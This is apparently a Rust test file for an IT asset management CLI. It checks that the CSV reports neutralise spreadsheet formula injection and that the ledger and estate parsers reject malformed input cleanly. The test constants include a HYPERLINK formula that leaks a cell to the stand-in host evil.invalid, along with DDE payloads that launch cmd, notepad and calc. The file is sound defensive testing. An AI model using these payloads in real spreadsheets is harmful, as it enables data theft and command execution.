//! Hostile input to the parts of the CLI that read and write CSV, the finance reconciliation
//! and `reconcile`'s JSON inputs: every case asserts what the command prints (a typed error
//! with its position, a finding, or a neutralised cell), its exit code, and that it did not
//! panic. Fixtures: `tests/data/reconcile/formula.json`, `tests/data/finance/formula-*.json`;
//! the rest are built here.
#![allow(clippy::expect_used, clippy::panic, clippy::unwrap_used)] // test code: a panic is a failure

mod support;
use support::*;

use itam_core::finance::csv::{Limits, is_formula_like, read};

fn data(rel: &str) -> String {
    format!("{}/tests/data/{rel}", env!("CARGO_MANIFEST_DIR"))
}

/// No panic message and no Rust backtrace on standard error.
fn no_panic(out: &std::process::Output) {
    let err = stderr(out);
    assert!(
        !err.contains("panicked") && !err.contains("RUST_BACKTRACE"),
        "{err}"
    );
}

/// Every cell of a CSV report, read back with the project's reader (which also proves the
/// report is well-formed RFC 4180), by record.
fn cells(text: &str) -> Vec<Vec<String>> {
    read(text, &Limits::default())
        .unwrap_or_else(|e| panic!("report is not CSV ({e}): {text}"))
        .into_iter()
        .map(|r| r.into_iter().map(|f| f.text).collect())
        .collect()
}

/// No cell of `rows` would run as a formula in a spreadsheet.
fn no_formula(rows: &[Vec<String>]) {
    for row in rows {
        for cell in row {
            assert!(!is_formula_like(cell), "formula cell {cell:?} in {row:?}");
        }
    }
}

// --- formula cells (CSV injection) -----------------------------------------------------------

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.invalid/?leak=\"&A1,\"Click\")";
const NOTEPAD: &str = "+cmd|' /C notepad'!'A1'";

#[test]
fn reconcile_csv_neutralises_formula_names_and_keeps_the_numbers() {
    let out = itam(&[
        "reconcile",
        &data("reconcile/formula.json"),
        "--as-of",
        "2026-01-01",
        "--csv",
    ]);
    no_panic(&out);
    assert_eq!(code(&out), 1, "{}", stderr(&out)); // a shortfall of 2
    let text = stdout(&out);
    // The publisher, a quoted cell behind one single quote, exactly as OWASP recommends.
    assert!(
        text.contains("\"'=HYPERLINK(\"\"http://evil.invalid/?leak=\"\"&A1,\"\"Click\"\")\""),
        "{text}"
    );
    let rows = cells(&text);
    no_formula(&rows);
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[1][0], format!("'{HYPERLINK}"));
    assert_eq!(rows[1][1], format!("'{NOTEPAD}"));
    // The figures are untouched: consumers 3, demand 3, covered 1, shortfall 2, cost 20.
    assert_eq!(rows[1][4..9], ["3", "3", "0", "1", "2"]);
    assert_eq!(rows[1][12], "20");
}

#[test]
fn reconcile_csv_decisions_neutralises_ids() {
    let out = itam(&[
        "reconcile",
        &data("reconcile/formula.json"),
        "--as-of",
        "2026-01-01",
        "--csv-decisions",
    ]);
    no_panic(&out);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let rows = cells(&stdout(&out));
    no_formula(&rows);
    assert_eq!(rows.len(), 4, "{rows:?}");
    for row in &rows[1..] {
        // The entitlement `-2+3` is a formula, not a negative number.
        assert_eq!(row[5], "'-2+3");
        assert_eq!(row[0], format!("'{HYPERLINK}"));
    }
    // The consumers carry their kind first (`device:`), so they never start a formula; the
    // tab and CR inside them are kept, quoted.
    let consumers: Vec<&str> = rows[1..].iter().map(|r| r[4].as_str()).collect();
    assert!(consumers.contains(&"device:\t=1+1"), "{consumers:?}");
    assert!(consumers.contains(&"device:\r=2+2"), "{consumers:?}");
}

#[test]
fn finance_csv_neutralises_every_table() {
    let out = itam(&[
        "finance",
        "reconcile",
        "--cms",
        &data("finance/formula-cms.json"),
        "--ledger",
        &data("finance/formula-ledger.json"),
        "--csv",
    ]);
    no_panic(&out);
    assert_eq!(code(&out), 0, "{}", stderr(&out)); // warnings only
    let text = stdout(&out);
    let tables: Vec<&str> = text.split("\r\n\r\n").collect();
    assert_eq!(tables.len(), 3, "{text}");
    let matches = cells(tables[0]);
    no_formula(&matches);
    // The serial match's evidence is the serial itself, a DDE payload.
    assert_eq!(matches[1][2], "serial");
    assert_eq!(matches[1][4], "'@SUM(1+1)*cmd|' /C calc'!A0");
    let discrepancies = cells(tables[2]);
    no_formula(&discrepancies);
    assert_eq!(discrepancies.len(), 4, "{discrepancies:?}");
}

#[test]
fn attack_strings_of_every_class_are_neutralised_in_a_report() {
    // The payload classes OWASP lists, and the cells the writer leaves alone.
    let neutralised = [
        HYPERLINK,
        "@SUM(1+1)*cmd|' /C calc'!A0",
        NOTEPAD,
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "=1+1;=2+2",
        "\u{ff1d}1+1",
    ];
    let kept = ["-3", "-0.5", "12", "a=1", "x@y", ""];
    let mut out = String::new();
    itam_core::finance::csv::write_report_record(&mut out, &neutralised);
    itam_core::finance::csv::write_report_record(&mut out, &kept);
    let rows = cells(&out);
    no_formula(&rows);
    let expected: Vec<String> = neutralised.iter().map(|c| format!("'{c}")).collect();
    assert_eq!(rows[0], expected);
    assert_eq!(rows[1], kept);
}

// --- the ledger's CSV form ------------------------------------------------------------------

const CMS: &str = "finance/cms.json";

/// `itam finance reconcile` on a ledger written to a scratch file.
fn finance_on(dir: &TempDir, name: &str, ledger: &[u8]) -> std::process::Output {
    std::fs::write(dir.join(name), ledger).unwrap();
    let out = itam(&[
        "finance",
        "reconcile",
        "--cms",
        &data(CMS),
        "--ledger",
        &dir.arg(name),
    ]);
    no_panic(&out);
    out
}

/// Exit 2 with this message on standard error.
fn refused(out: &std::process::Output, message: &str) {
    assert_eq!(code(out), 2, "{}", stderr(out));
    assert!(stderr(out).contains(message), "{}", stderr(out));
}

const HEAD: &str = "record,number,date,supplier,serial,description,cost,currency,cost_centre\n";

#[test]
fn ledger_csv_refusals_say_the_line_and_column() {
    let dir = TempDir::new("ledger-csv");
    let cases: [(&str, String, &str); 6] = [
        (
            "short row: once padded silently",
            format!("{HEAD}register,FA-1,2025-01-10,Contoso,S-0001,Server,9000.00,EUR\n"),
            "not a ledger csv: line 2: 8 fields, but the header has 9 columns",
        ),
        (
            "long row",
            format!("{HEAD}register,FA-1,,,,,1,EUR,cc,extra\n"),
            "line 2: 10 fields, but the header has 9 columns",
        ),
        (
            "unclosed quote",
            format!("{HEAD}register,FA-1,,,,\"Server\n"),
            "line 2, column 18: quoted field is never closed",
        ),
        (
            "quote inside an unquoted field",
            format!("{HEAD}register,FA-1,,,,Ser\"ver,1,EUR,\n"),
            "line 2, column 21: quote inside an unquoted field",
        ),
        (
            "an amount beyond the decimal range",
            format!("{HEAD}register,FA-1,,,,,79228162514264337593543950336,EUR,\n"),
            "line 2, column 19: `79228162514264337593543950336` in column `cost`",
        ),
        (
            "a formula where a date belongs",
            format!("{HEAD}register,FA-1,=NOW(),,,,1,EUR,\n"),
            "line 2, column 15: `=NOW()` in column `date` is not a date",
        ),
    ];
    for (what, text, message) in cases {
        let out = finance_on(&dir, "ledger.csv", text.as_bytes());
        assert_eq!(code(&out), 2, "{what}: {}", stderr(&out));
        assert!(stderr(&out).contains(message), "{what}: {}", stderr(&out));
    }
}

#[test]
fn ledger_bad_encodings_and_control_characters() {
    let dir = TempDir::new("ledger-bytes");
    // Latin-1 where UTF-8 belongs: refused with the byte offset.
    let mut latin1 = HEAD.as_bytes().to_vec();
    latin1.extend_from_slice(b"register,FA-1,,Soci\xe9t\xe9,,,1,EUR,\n");
    let offset = HEAD.len() + "register,FA-1,,Soci".len();
    refused(
        &finance_on(&dir, "latin1.csv", &latin1),
        &format!("not utf-8 text (invalid byte at offset {offset})"),
    );
    // UTF-16 LE with its BOM: not UTF-8 either, refused at the first byte.
    let utf16: Vec<u8> = "\u{feff}record"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    refused(
        &finance_on(&dir, "utf16.csv", &utf16),
        "not utf-8 text (invalid byte at offset 0)",
    );
    // A UTF-8 BOM is skipped; NUL, escape and bell inside a cell are kept as text and the
    // report quotes nothing into a formula.
    let text = format!("\u{feff}{HEAD}register,HW-2,,Co\u{0}\u{1b}[31m\u{7},,,9000.00,EUR,\n");
    let out = finance_on(&dir, "controls.csv", text.as_bytes());
    assert!(code(&out) < 2, "{}", stderr(&out));
    assert!(stdout(&out).contains("register:HW-2"), "{}", stdout(&out));
}

/// Every tenth of a valid ledger, in both forms: each prefix reads, or is refused with exit 2
/// and a message that says where (a line, or the header), never a panic.
#[test]
fn truncated_ledgers_are_refused_with_a_position() {
    let dir = TempDir::new("ledger-cut");
    let full_csv = std::fs::read_to_string(data("finance/ledger-semicolon.csv"))
        .unwrap()
        .replace(';', ",");
    let full_json = std::fs::read_to_string(data("finance/ledger.json")).unwrap();
    let mut refusals = 0;
    for (name, full) in [("cut.csv", &full_csv), ("cut.json", &full_json)] {
        for tenth in 1..10 {
            let mut end = full.len() * tenth / 10;
            while !full.is_char_boundary(end) {
                end -= 1;
            }
            let out = finance_on(&dir, name, &full.as_bytes()[..end]);
            match code(&out) {
                0 | 1 => {}
                2 => {
                    refusals += 1;
                    let err = stderr(&out);
                    assert!(
                        err.contains("line ") || err.contains("header"),
                        "{name} cut at {end}: {err}"
                    );
                }
                other => panic!("{name} cut at {end}: exit {other}: {}", stderr(&out)),
            }
        }
    }
    // Every JSON prefix is refused (an object never closes); so are the CSV prefixes that end
    // inside a row or before the currency column.
    assert!(refusals >= 9, "{refusals} refusals");
}

#[test]
fn ledger_json_extreme_numbers_and_huge_arrays() {
    let dir = TempDir::new("ledger-json");
    let line = |price: &str| {
        format!(
            r#"{{"register": [], "purchases": [{{"document": "invoice", "number": "I", "line": 1,
  "description": "x", "quantity": "1", "unit_price": {price}, "currency": "EUR"}}]}}"#
        )
    };
    refused(
        &finance_on(
            &dir,
            "l.json",
            line("\"79228162514264337593543950336\"").as_bytes(),
        ),
        "at line 2 column",
    );
    refused(
        &finance_on(&dir, "l.json", line("1e309").as_bytes()),
        "at line 2 column",
    );
    // 10^6 elements of the wrong type: refused at the first, at once.
    let mut huge = String::from("{\"register\": [");
    huge.push_str(&vec!["0"; 1_000_000].join(","));
    huge.push_str("]}");
    refused(
        &finance_on(&dir, "huge.json", huge.as_bytes()),
        "expected struct RegisterLine at line 1 column 15",
    );
    // Nesting 10^5 deep where a CMS belongs.
    std::fs::write(dir.join("deep.json"), "[".repeat(100_000)).unwrap();
    let out = itam(&[
        "finance",
        "reconcile",
        "--cms",
        &dir.arg("deep.json"),
        "--ledger",
        &data("finance/ledger.json"),
    ]);
    no_panic(&out);
    refused(&out, "not the json form of a cms: invalid type: sequence");
}

// --- reconcile's estate.json -----------------------------------------------------------------

/// `itam reconcile` on an estate written to a scratch file.
fn reconcile_on(dir: &TempDir, text: &str) -> std::process::Output {
    std::fs::write(dir.join("estate.json"), text).unwrap();
    let out = itam(&[
        "reconcile",
        &dir.arg("estate.json"),
        "--as-of",
        "2026-01-01",
    ]);
    no_panic(&out);
    out
}

fn priced_estate(unit_cost: &str) -> String {
    format!(
        r#"{{"devices": [{{"id": "d1"}}, {{"id": "d2"}}],
 "software": [{{"tag_id": "s", "publisher": "Acme", "product": "App", "version": "1"}}],
 "installations": [{{"software": "s", "device": "d1"}}, {{"software": "s", "device": "d2"}}],
 "entitlements": [{{"id": "E", "scope": {{"product": "App"}}, "metric": "device", "quantity": 1,
   "unit_cost": "{unit_cost}"}}]}}"#
    )
}

#[test]
fn estate_costs_that_cannot_be_priced_are_refused_with_their_path() {
    let dir = TempDir::new("estate-costs");
    refused(
        &reconcile_on(&dir, &priced_estate("-250.00")),
        "/entitlements/0/unit_cost: unit cost -250.00 of entitlement \"E\" is negative",
    );
    refused(
        &reconcile_on(&dir, &priced_estate("79228162514264337593543950335")),
        "the cost reaches the largest decimal",
    );
    // A real price is priced: a shortfall of 1 at 250.
    let out = reconcile_on(&dir, &priced_estate("250"));
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(stdout(&out).contains("250"), "{}", stdout(&out));
}

#[test]
fn estate_json_extremes_are_typed_errors_with_positions() {
    let dir = TempDir::new("estate-json");
    let with_quantity = |q: &str| {
        format!(
            "{{\"devices\": [{{\"id\": \"d1\"}}],\n \"entitlements\": [{{\"id\": \"E\", \"scope\": \
             {{\"product\": \"X\"}}, \"metric\": \"device\", \"quantity\": {q}}}]}}"
        )
    };
    refused(
        &reconcile_on(&dir, &with_quantity("1e309")),
        "number out of range at line 2 column",
    );
    refused(
        &reconcile_on(&dir, &with_quantity("\"1e3\"")),
        "at line 2 column",
    );
    let mut huge = String::from("{\"devices\": [");
    huge.push_str(&vec!["0"; 1_000_000].join(","));
    huge.push_str("]}");
    refused(
        &reconcile_on(&dir, &huge),
        "expected struct Device at line 1 column 14",
    );
    refused(
        &reconcile_on(&dir, &"[".repeat(100_000)),
        "at line 1 column",
    );
    // A UTF-8 byte-order mark is skipped, as the other readers skip it (issue 12).
    let bom = format!(
        "\u{feff}{}",
        std::fs::read_to_string(data("reconcile/compliant.json")).unwrap()
    );
    let out = reconcile_on(&dir, &bom);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(stdout(&out).starts_with("effective license position of "));
}

#[test]
fn truncated_estates_are_refused_with_a_position() {
    let dir = TempDir::new("estate-cut");
    let full = std::fs::read_to_string(data("reconcile/formula.json")).unwrap();
    for tenth in 1..10 {
        let mut end = full.len() * tenth / 10;
        while !full.is_char_boundary(end) {
            end -= 1;
        }
        let out = reconcile_on(&dir, &full[..end]);
        refused(&out, "EOF while parsing");
        assert!(stderr(&out).contains(" at line "), "{}", stderr(&out));
    }
}
